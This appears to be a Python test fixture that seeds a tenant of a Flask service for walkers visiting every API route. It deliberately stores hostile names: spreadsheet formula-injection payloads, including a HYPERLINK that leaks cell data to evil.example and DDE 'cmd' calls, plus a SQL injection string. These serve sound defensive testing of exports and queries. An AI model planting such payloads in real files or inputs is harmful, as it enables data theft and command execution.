"""A tenant full of real objects, for the walkers that visit every route with ids that exist.

``build_world`` makes an agency with clients, members, an invitation, a second API key, a webhook endpoint
with a delivery, a draft contract, a campaign with checked posts and a bulk check, all through the seed
factories and the API. Names a user could type are hostile on purpose (spreadsheet formulas), so an export
walker sees them. ``World.ids`` maps the names routes give their path parameters to an id of that kind, so
a walker can fill in any route of the URL map or the OpenAPI document, including ones added later.
"""

from __future__ import annotations

import io
import json
import uuid
from dataclasses import dataclass, field
from typing import Any

from flask import Flask

from tenants.models import TenantKind
from tenants.roles import Role
from tests.factories import bearer

# Every way a spreadsheet starts a formula (or a cell that hides one): = + - @ tab, carriage return.
FORMULAS = (
    '=HYPERLINK("http://evil.example/?x="&A1,"Details")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
)
# Text that breaks a query built by string concatenation; it must come back out exactly as it went in.
SQL_TEXT = "Robert'); DROP TABLE clients; -- \" OR 1=1"
# The fallback for a token in a route (signing, invitation and magic links): well formed, never issued.
UNKNOWN_TOKEN = "x" * 43


@dataclass
class World:
    tenant_id: uuid.UUID
    owner_email: str
    key: str  # the owner's API key; never handed to a walker as a key_id, so it is not revoked mid-walk
    ids: dict[str, str] = field(default_factory=dict)

    @property
    def headers(self) -> dict[str, str]:
        return bearer(self.key)

    def value_for(self, name: str) -> str:
        """The value for a path parameter called ``name``: a real id when there is one."""
        if name in self.ids:
            return self.ids[name]
        return UNKNOWN_TOKEN if "token" in name else str(uuid.uuid4())


def _call(client: Any, world: World, method: str, path: str, expect: int, **kwargs: Any) -> Any:
    response = client.open(f"/api/v1{path}", method=method, headers=world.headers, **kwargs)
    assert response.status_code == expect, (method, path, response.status_code, response.get_data(as_text=True))
    return response.json


def _jsonl(rows: list[dict[str, Any]]) -> bytes:
    return "".join(json.dumps(row) + "\n" for row in rows).encode()


def build_world(app: Flask, client: Any, seed: Any, run_jobs: Any) -> World:
    agency = seed.make_tenant(TenantKind.AGENCY, name=FORMULAS[0][:60])
    client_id = seed.make_client(agency.id, name=FORMULAS[1])
    seed.make_client(agency.id, name=FORMULAS[2])
    seed.make_client(agency.id, name=SQL_TEXT)
    creator = seed.make_creator(agency.id, email=f"creator-{uuid.uuid4().hex[:6]}@example.com", client_id=client_id)
    manager = seed.add_member(agency.id, Role.MANAGER)
    world = World(agency.id, agency.owner.email, seed.make_api_key(agency.id, Role.OWNER))
    _rename_creator(app, creator.id, FORMULAS[3])
    world.ids.update(
        client_id=str(client_id),
        relation_id=str(creator.relation_id),
        membership_id=str(manager.membership_id),
    )

    invitation = _call(
        client, world, "POST", "/invitations/users", 201, json={"email": "new@example.com", "role": "viewer"}
    )
    other_key = _call(client, world, "POST", "/api-keys", 201, json={"name": FORMULAS[4], "role": "viewer"})
    endpoint = _call(
        client, world, "POST", "/webhooks/endpoints", 201,
        json={"url": "http://127.0.0.1:9/hooks", "event_types": ["check.completed"]},
    )  # fmt: skip
    delivery = _call(client, world, "POST", f"/webhooks/endpoints/{endpoint['id']}/test", 202)
    world.ids.update(
        invitation_id=invitation["id"], key_id=other_key["id"], endpoint_id=endpoint["id"], delivery_id=delivery["id"]
    )

    contract = _call(
        client, world, "POST", "/contracts", 201,
        json={
            "template": "influencer_collaboration",
            "creator_id": str(creator.id),
            "client_id": str(client_id),
            "brand_signatory": {"name": "Nora Lindqvist", "email": "nora@example.com"},
            "terms": {
                "meta": {"jurisdiction": "DE", "languages": ["de", "en"]},
                "deliverables": [{"platform": "instagram", "format": "reel", "quantity": 2}],
                "compensation": {"fee_net": 1800},
            },
        },
    )  # fmt: skip
    world.ids["contract_id"] = contract["id"]

    campaign = _call(
        client, world, "POST", "/disclosure/campaigns", 201,
        json={"name": FORMULAS[5], "client_id": str(client_id), "jurisdictions": ["DE"], "platforms": ["instagram"]},
    )  # fmt: skip
    post = _call(
        client, world, "POST", f"/disclosure/campaigns/{campaign['id']}/posts", 201,
        json={
            "title": FORMULAS[0], "creator_relation_id": str(creator.relation_id), "relationship": "paid",
            "platform": "instagram", "media_type": "image",
        },
    )  # fmt: skip
    submitted = _call(client, world, "POST", f"/disclosure/posts/{post['id']}/submissions", 202, json={"caption": "x"})
    rows = [
        {"id": formula, "jurisdiction": "DE", "platform": "instagram", "media_type": "image", "caption": formula}
        for formula in (*FORMULAS, SQL_TEXT)
    ]
    bulk = _call(
        client, world, "POST", f"/disclosure/bulk-checks?client_id={client_id}", 202,
        data={"file": (io.BytesIO(_jsonl(rows)), "posts.jsonl")}, content_type="multipart/form-data",
    )  # fmt: skip
    run_jobs()
    world.ids.update(
        campaign_id=campaign["id"], post_id=post["id"], check_id=submitted["check"]["id"], bulk_id=bulk["id"]
    )
    return world


def _rename_creator(app: Flask, creator_id: uuid.UUID, name: str) -> None:
    """Creators name themselves (on their profile), so their name is as untrusted as any other input."""
    from service.accounts.models import Creator
    from service.extensions import db

    with app.app_context():
        creator = db.session.get(Creator, creator_id)
        assert creator is not None
        creator.name = name
        db.session.commit()


def snapshot(app: Flask, world: World) -> str:
    """Everything the world's tenant owns (but its audit log), to show a walk changed nothing."""
    from service.audit.models import AuditEvent
    from tenants.context import tenant_scope
    from tests.tenancy.snapshot import tenant_rows

    with app.app_context(), tenant_scope(world.tenant_id):
        return json.dumps(tenant_rows(exclude={AuditEvent.__tablename__}), sort_keys=True, default=str)
